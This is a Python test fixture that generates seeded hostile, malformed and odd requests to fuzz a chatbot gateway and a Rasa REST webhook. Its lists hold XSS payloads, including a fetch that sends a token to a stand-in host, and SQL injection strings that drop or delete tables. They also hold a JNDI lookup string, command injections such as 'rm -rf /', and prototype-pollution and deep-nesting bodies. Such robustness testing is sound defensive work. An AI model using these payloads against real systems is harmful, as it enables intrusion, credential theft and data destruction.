"""Hostile and odd requests for the gateway and Rasa's REST webhook: what members paste by
mistake, what attackers try, and what broken clients send. Built from a fixed seed, so every run
sends the same ones."""

from __future__ import annotations

import json
import random
from dataclasses import dataclass

SEED = 20261123


@dataclass(frozen=True)
class Request:
    kind: str
    content_type: str
    body: bytes


EMOJI = [
    "😀",
    "😭",
    "🏥",
    "💊",
    "🩺",
    "❤️",
    "👍🏽",
    "👨‍👩‍👧‍👦",
    "🏳️‍🌈",
    "🇺🇸",
    "🤬",
    "🙏",
    "\u2764\ufe0f",
]
RIGHT_TO_LEFT = [
    "رفضت شركة التأمين طلبي",
    "הביטוח דחה את התביעה שלי",
    "\u202emy claim was denied\u202c",
    "\u202dCalifornia\u202c \u202bكاليفورنيا\u202c",
    "تم رفض التصوير بالرنين المغناطيسي",
    "\u200fשלום\u200e hello",
]
MARKUP = [
    "<script>alert(1)</script>",
    '<img src=x onerror="alert(document.cookie)">',
    "<iframe src=javascript:alert(1)></iframe>",
    '<a href="javascript:alert(1)">appeal</a>',
    "<svg onload=alert(1)>",
    "</textarea><script>fetch('//evil.example/'+localStorage.token)</script>",
    "&lt;b&gt;bold&lt;/b&gt; &#x3C;script&#x3E;",
    "<style>*{display:none}</style>",
    "[link](javascript:alert(1)) **bold** `code`",
]
SQL = [
    "'; DROP TABLE events; --",
    "1 OR 1=1",
    '" OR ""="',
    "California'); DELETE FROM conversations; --",
    "UNION SELECT token_hash FROM conversations",
    "admin'--",
    "%' AND 1=(SELECT COUNT(*) FROM advocates) AND '%'='",
]
TEMPLATES = ["{0}", "%s%s%s%n", "${jndi:ldap://evil.example/a}", "{{7*7}}", "{us_state}",
             "{{ config }}", "%(name)s", "\\x00\\n", "$(rm -rf /)", "`id`"]  # fmt: skip
SLASH_COMMANDS = [
    "/restart",
    "/back",
    "/session_start",
    "/ask_human",
    "/inform",
    '/inform{"us_state": "ZZ"}',
    '/inform{"notice_date": "2099-99-99"}',
    '/inform{"plan_type": "<script>"}',
    "/inform{malformed",
    "/no_such_intent",
    "/",
    "//",
    "/nlu_fallback",
    "/action_connect_person",
]
DATES = ["02/30/2026", "9/15/2099", "0000-00-00", "13/45/26", "yesterday tomorrow", "31 Feb",
         "the 32nd", "1/1/1900", "9999-12-31", "last Smarch", "-1 days ago"]  # fmt: skip
NUMBERS = ["1e309", "NaN", "-0", "Infinity", str(2**200), "+1 (555) 000-0000", "0x41414141",
           "1" * 400]  # fmt: skip
OTHER_LANGUAGES = [
    "Mi seguro negó mi reclamo, ¿qué hago?",
    "我的保险拒绝了我的理赔",
    "Моя страховка отказала в оплате",
    "Bảo hiểm từ chối yêu cầu của tôi",
    "Tinanggihan ng insurance ang claim ko",
    "보험사가 청구를 거절했어요",
    "Ma mutuelle a refusé le remboursement",
    "मेरा दावा खारिज कर दिया गया",
]
ODD_UNICODE = [
    "Cal\u200bifornia",
    "\ufeffmy claim was denied",
    "Ｃａｌｉｆｏｒｎｉａ",
    "Z\u0351\u0352\u0353a\u0354\u0355l\u0356g\u0357o",
    "Саlifornia",  # Cyrillic C and a
    "\u0000\u0001\u0002",
    "\U0010ffff\U000e0001",
    "e\u0301\u0301\u0301",
]
ORDINARY = ["my claim was denied", "California", "HMO", "yes", "no", "help", "what now?",
            "talk to a person", "9/15/26", "MRI of my knee"]  # fmt: skip


def _binary_looking(rng: random.Random) -> str:
    return bytes(rng.randrange(256) for _ in range(rng.randrange(1, 300))).decode("latin-1")


def _mixed(rng: random.Random, pools: list[list[str]]) -> str:
    parts = [rng.choice(rng.choice(pools)) for _ in range(rng.randrange(1, 5))]
    return rng.choice([" ", "", "\n", " 🙏 "]).join(parts)


def hostile_texts(count: int) -> list[str]:
    """`count` message texts: every listed one, then seeded mixtures, binary noise and huge
    pastes (up to 400,000 characters: more than the gateway takes, to show Rasa copes)."""
    rng = random.Random(SEED)
    pools = [EMOJI, RIGHT_TO_LEFT, MARKUP, SQL, TEMPLATES, SLASH_COMMANDS, DATES, NUMBERS,
             OTHER_LANGUAGES, ODD_UNICODE, ORDINARY]  # fmt: skip
    texts = [text for pool in pools for text in pool]
    texts += ["", " ", "\n\n\t", "a" * 50_000, "not medically necessary " * 16_000,
              "🏥" * 30_001, "x" * 400_000]  # fmt: skip
    while len(texts) < count:
        roll = rng.random()
        if roll < 0.2:
            texts.append(_binary_looking(rng))
        elif roll < 0.25:
            texts.append(_mixed(rng, pools) * rng.randrange(200, 2_000))
        else:
            texts.append(_mixed(rng, pools))
    return texts[:count]


def _json(value: object) -> bytes:
    return json.dumps(value).encode()


MALFORMED_BODIES = [
    b"",
    b"{",
    b'{"text": "unterminated',
    b"null",
    b"[]",
    b"42",
    b'"just a string"',
    b"\xff\xfe\x00bad utf-8",
    b"\xef\xbb\xbf{}",
    b"[" * 50_000 + b"]" * 50_000,  # nested deeper than any JSON parser recurses
    b'{"a":' * 5_000 + b"1" + b"}" * 5_000,
    b"text=hello&sender=me",
    b"\x00" * 1024,
]
WRONG_TYPES = [None, 42, 3.5, True, [], ["a", "b"], {"nested": "object"}, "x" * 10]
CONTENT_TYPES = ["application/json", "text/plain", "application/x-www-form-urlencoded",
                 "multipart/form-data; boundary=x", "application/xml", ""]  # fmt: skip


def malformed_requests(field: str, other_fields: dict[str, object]) -> list[Request]:
    """Bodies that aren't the JSON object a channel expects, in every content type, and
    objects whose fields have the wrong type. `field` is the message field ("text" or
    "message")."""
    requests = [
        Request("malformed body", content_type, body)
        for body in MALFORMED_BODIES
        for content_type in CONTENT_TYPES
    ]
    for value in WRONG_TYPES:
        requests.append(
            Request("wrong type", "application/json", _json({**other_fields, field: value}))
        )
        requests.append(
            Request(
                "wrong type",
                "application/json",
                _json({field: "hi", **{k: value for k in other_fields}}),
            )
        )
    requests.append(Request("no fields", "application/json", _json({})))
    extra = {**other_fields, field: "hi", "__proto__": {"admin": True}}
    requests.append(Request("extra fields", "application/json", _json(extra)))
    requests += [
        Request("wrong content type", content_type, _json({**other_fields, field: "hello"}))
        for content_type in CONTENT_TYPES[1:]
    ]
    return requests
